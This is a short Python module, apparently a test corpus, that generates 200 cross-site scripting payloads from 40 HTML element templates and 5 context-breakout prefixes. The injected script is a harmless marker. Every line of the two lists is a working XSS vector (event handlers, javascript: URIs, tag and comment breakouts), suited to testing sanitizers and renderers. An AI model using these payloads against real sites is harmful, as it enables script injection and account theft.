"""Texts that become code wherever somebody forgets what text is."""
CODE = "window.__hit=1"
ELEMENTS = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>", "<iframe src=javascript:{}>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<audio src=x onerror={}>", "<marquee onstart={}>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<a href=javascript:{}>here</a>", "<form action=javascript:{}><button>here</button></form>", "<math><a xlink:href=javascript:{}>here</a></math>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><a xlink:href=javascript:{}><text>here</text></a></svg>",
    "<style>@import 'javascript:{}'</style>", "<link rel=stylesheet href=javascript:{}>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>", "<template><img src=x onerror={}></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xss onpointerenter={} style=position:fixed;inset:0>", "<isindex type=image src=1 onerror={}>", "<table background=javascript:{}>",
    "<button popovertarget=x onclick={}>here</button>", "<img srcset=x onerror={}>", "<picture><img src onerror={}></picture>",
    "<p style=animation-name:breathe onanimationstart={}>", "<button formaction=javascript:{}>here</button>", "<way-map onclick={}></way-map>",
    "<!--><img src=x onerror={}>-->", "<![CDATA[><img src=x onerror={}>]]>", "<b><i><img src=x onerror={}></b></i>"]
#: How each of them may break out of where it stands.
PLACES = ["{}", "\"'>{}", "</textarea></title></script></style>{}", "w0w<!--w0w-->{}", "\u202e{}\u202c&lt;&#x3c;${{1}}{{{{1}}}}"]
PAYLOADS = [place.format(element.format(CODE)) for element in ELEMENTS for place in PLACES]
assert len(PAYLOADS) == len(set(PAYLOADS)) == 200
